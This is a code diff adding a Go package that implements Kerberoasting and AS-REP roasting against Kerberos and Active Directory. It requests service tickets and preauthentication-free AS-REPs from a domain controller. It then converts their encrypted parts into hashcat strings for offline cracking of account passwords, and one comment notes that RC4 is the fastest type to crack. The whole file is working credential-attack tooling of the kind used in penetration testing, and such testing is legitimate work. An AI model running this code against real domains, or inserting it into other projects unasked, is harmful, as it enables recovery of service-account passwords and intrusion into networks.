@@ -0,0 +1,266 @@
+package kerberos
+
+import (
+	"encoding/hex"
+	"fmt"
+	"strings"
+
+	krb5client "github.com/jcmturner/gokrb5/v8/client"
+	"github.com/jcmturner/gokrb5/v8/config"
+	"github.com/jcmturner/gokrb5/v8/iana/errorcode"
+	"github.com/jcmturner/gokrb5/v8/iana/etypeID"
+	"github.com/jcmturner/gokrb5/v8/iana/nametype"
+	"github.com/jcmturner/gokrb5/v8/messages"
+	"github.com/jcmturner/gokrb5/v8/types"
+)
+
+// Size of the HMAC checksum prepended to RC4-HMAC ciphertexts (RFC 4757)
+const rc4ChecksumSize = 16
+
+// Size of the truncated HMAC-SHA1 checksum appended to AES-CTS-HMAC-SHA1-96 ciphertexts (RFC 3962)
+const aesChecksumSize = 12
+
+// TGSRoastHash represents the encrypted part of a service ticket, crackable offline to recover
+// the password of the service account.
+type TGSRoastHash struct {
+	// Username is the sAMAccountName of the service account
+	Username string
+	// Realm is the realm of the service account
+	Realm string
+	// SPN is the service principal name the ticket was requested for
+	SPN string
+	// EType is the encryption type of the ticket
+	EType int32
+	// Cipher is the encrypted part of the ticket
+	Cipher []byte
+}
+
+// ASREPRoastHash represents the encrypted part of an AS-REP, crackable offline to recover
+// the password of an account that does not require Kerberos preauthentication.
+type ASREPRoastHash struct {
+	// Username is the name of the client principal
+	Username string
+	// Realm is the realm of the client principal
+	Realm string
+	// EType is the encryption type of the encrypted part of the AS-REP
+	EType int32
+	// Cipher is the encrypted part of the AS-REP
+	Cipher []byte
+}
+
+// NewTGSRoastHashFromTicket creates a TGSRoastHash from a service ticket.
+//
+// Parameters:
+// - username: A string representing the sAMAccountName of the service account the ticket was issued for.
+// - ticket: A messages.Ticket representing the service ticket.
+//
+// Returns:
+// - A pointer to a TGSRoastHash object.
+func NewTGSRoastHashFromTicket(username string, ticket messages.Ticket) *TGSRoastHash {
+	return &TGSRoastHash{
+		Username: username,
+		Realm:    ticket.Realm,
+		SPN:      strings.Join(ticket.SName.NameString, "/"),
+		EType:    ticket.EncPart.EType,
+		Cipher:   ticket.EncPart.Cipher,
+	}
+}
+
+// NewASREPRoastHashFromASRep creates an ASREPRoastHash from an AS-REP message.
+//
+// Parameters:
+// - asRep: A messages.ASRep representing the reply of the KDC.
+//
+// Returns:
+// - A pointer to an ASREPRoastHash object.
+func NewASREPRoastHashFromASRep(asRep messages.ASRep) *ASREPRoastHash {
+	return &ASREPRoastHash{
+		Username: asRep.CName.PrincipalNameString(),
+		Realm:    asRep.CRealm,
+		EType:    asRep.EncPart.EType,
+		Cipher:   asRep.EncPart.Cipher,
+	}
+}
+
+// ToHashcatString converts the TGSRoastHash to a Hashcat string
+//
+// The formats are:
+// - $krb5tgs$23$*<user>$<realm>$<spn>*$<checksum>$<edata2> (hashcat mode 13100)
+// - $krb5tgs$17$<user>$<realm>$*<spn>*$<checksum>$<edata2> (hashcat mode 19600)
+// - $krb5tgs$18$<user>$<realm>$*<spn>*$<checksum>$<edata2> (hashcat mode 19700)
+//
+// Returns:
+//   - The Hashcat string
+//   - An error if the encryption type is not supported or the cipher is too short
+func (h *TGSRoastHash) ToHashcatString() (string, error) {
+	spn := strings.ReplaceAll(h.SPN, ":", "~")
+	realm := strings.ToUpper(h.Realm)
+
+	switch h.EType {
+	case etypeID.RC4_HMAC:
+		if len(h.Cipher) <= rc4ChecksumSize {
+			return "", fmt.Errorf("cipher is too short (%d bytes)", len(h.Cipher))
+		}
+		return fmt.Sprintf(
+			"$krb5tgs$%d$*%s$%s$%s*$%s$%s",
+			h.EType,
+			h.Username,
+			realm,
+			spn,
+			hex.EncodeToString(h.Cipher[:rc4ChecksumSize]),
+			hex.EncodeToString(h.Cipher[rc4ChecksumSize:]),
+		), nil
+	case etypeID.AES128_CTS_HMAC_SHA1_96, etypeID.AES256_CTS_HMAC_SHA1_96:
+		if len(h.Cipher) <= aesChecksumSize {
+			return "", fmt.Errorf("cipher is too short (%d bytes)", len(h.Cipher))
+		}
+		return fmt.Sprintf(
+			"$krb5tgs$%d$%s$%s$*%s*$%s$%s",
+			h.EType,
+			h.Username,
+			realm,
+			spn,
+			hex.EncodeToString(h.Cipher[len(h.Cipher)-aesChecksumSize:]),
+			hex.EncodeToString(h.Cipher[:len(h.Cipher)-aesChecksumSize]),
+		), nil
+	}
+
+	return "", fmt.Errorf("unsupported encryption type %d", h.EType)
+}
+
+// ToHashcatString converts the ASREPRoastHash to a Hashcat string
+//
+// The formats are:
+// - $krb5asrep$23$<user>@<realm>:<checksum>$<edata2> (hashcat mode 18200)
+// - $krb5asrep$17$<user>$<realm>$<checksum>$<edata2> (hashcat mode 32100)
+// - $krb5asrep$18$<user>$<realm>$<checksum>$<edata2> (hashcat mode 32200)
+//
+// Returns:
+//   - The Hashcat string
+//   - An error if the encryption type is not supported or the cipher is too short
+func (h *ASREPRoastHash) ToHashcatString() (string, error) {
+	realm := strings.ToUpper(h.Realm)
+
+	switch h.EType {
+	case etypeID.RC4_HMAC:
+		if len(h.Cipher) <= rc4ChecksumSize {
+			return "", fmt.Errorf("cipher is too short (%d bytes)", len(h.Cipher))
+		}
+		return fmt.Sprintf(
+			"$krb5asrep$%d$%s@%s:%s$%s",
+			h.EType,
+			h.Username,
+			realm,
+			hex.EncodeToString(h.Cipher[:rc4ChecksumSize]),
+			hex.EncodeToString(h.Cipher[rc4ChecksumSize:]),
+		), nil
+	case etypeID.AES128_CTS_HMAC_SHA1_96, etypeID.AES256_CTS_HMAC_SHA1_96:
+		if len(h.Cipher) <= aesChecksumSize {
+			return "", fmt.Errorf("cipher is too short (%d bytes)", len(h.Cipher))
+		}
+		return fmt.Sprintf(
+			"$krb5asrep$%d$%s$%s$%s$%s",
+			h.EType,
+			h.Username,
+			realm,
+			hex.EncodeToString(h.Cipher[len(h.Cipher)-aesChecksumSize:]),
+			hex.EncodeToString(h.Cipher[:len(h.Cipher)-aesChecksumSize]),
+		), nil
+	}
+
+	return "", fmt.Errorf("unsupported encryption type %d", h.EType)
+}
+
+// RequestASRepWithoutPreAuth sends an AS-REQ without preauthentication data for a TGT
+// of the given user, and returns the AS-REP of the KDC.
+//
+// Parameters:
+// - kdcAddress: A string representing the address of the KDC in the "host:port" format.
+// - realm: A string representing the realm of the user.
+// - username: A string representing the name of the user.
+// - etypes: A slice of int32 representing the encryption types to request, in order of preference.
+//
+// Returns:
+// - A messages.ASRep containing the reply of the KDC.
+// - An error if the KDC requires preauthentication for this user or if the exchange fails.
+func RequestASRepWithoutPreAuth(kdcAddress, realm, username string, etypes []int32) (messages.ASRep, error) {
+	var asRep messages.ASRep
+
+	realm = strings.ToUpper(realm)
+
+	krb5Conf := config.New()
+	krb5Conf.LibDefaults.DefaultRealm = realm
+	krb5Conf.LibDefaults.DefaultTktEnctypeIDs = etypes
+	krb5Conf.LibDefaults.NoAddresses = true
+
+	cname := types.PrincipalName{NameType: nametype.KRB_NT_PRINCIPAL, NameString: []string{username}}
+	asReq, err := messages.NewASReqForTGT(realm, krb5Conf, cname)
+	if err != nil {
+		return asRep, fmt.Errorf("error building AS-REQ: %w", err)
+	}
+
+	request, err := asReq.Marshal()
+	if err != nil {
+		return asRep, fmt.Errorf("error marshalling AS-REQ: %w", err)
+	}
+
+	reply, err := SendToKDC(kdcAddress, request)
+	if err != nil {
+		if krbError, ok := err.(messages.KRBError); ok && krbError.ErrorCode == errorcode.KDC_ERR_PREAUTH_REQUIRED {
+			return asRep, fmt.Errorf("user %s requires Kerberos preauthentication", username)
+		}
+		return asRep, err
+	}
+
+	err = asRep.Unmarshal(reply)
+	if err != nil {
+		return asRep, fmt.Errorf("error unmarshalling AS-REP: %w", err)
+	}
+
+	return asRep, nil
+}
+
+// ASREPRoast requests an AS-REP for a user that does not require Kerberos preauthentication
+// and returns its crackable encrypted part.
+//
+// Parameters:
+// - kdcAddress: A string representing the address of the KDC in the "host:port" format.
+// - realm: A string representing the realm of the user.
+// - username: A string representing the name of the user.
+// - etype: An int32 representing the encryption type to request (RC4_HMAC is the fastest to crack).
+//
+// Returns:
+// - A pointer to an ASREPRoastHash object.
+// - An error if the request fails.
+func ASREPRoast(kdcAddress, realm, username string, etype int32) (*ASREPRoastHash, error) {
+	asRep, err := RequestASRepWithoutPreAuth(kdcAddress, realm, username, []int32{etype})
+	if err != nil {
+		return nil, err
+	}
+
+	return NewASREPRoastHashFromASRep(asRep), nil
+}
+
+// Kerberoast requests a service ticket for the given SPN with an authenticated Kerberos client
+// and returns its crackable encrypted part.
+//
+// Parameters:
+// - client: A pointer to an authenticated gokrb5 client. The encryption type of the ticket is
+// negotiated from the DefaultTGSEnctypeIDs of its configuration.
+// - username: A string representing the sAMAccountName of the service account owning the SPN.
+// - spn: A string representing the service principal name to request a ticket for.
+//
+// Returns:
+// - A pointer to a TGSRoastHash object.
+// - An error if the request fails.
+func Kerberoast(client *krb5client.Client, username, spn string) (*TGSRoastHash, error) {
+	ticket, _, err := client.GetServiceTicket(spn)
+	if err != nil {
+		return nil, fmt.Errorf("error requesting service ticket for %s: %w", spn, err)
+	}
+
+	hash := NewTGSRoastHashFromTicket(username, ticket)
+	hash.SPN = spn
+
+	return hash, nil
+}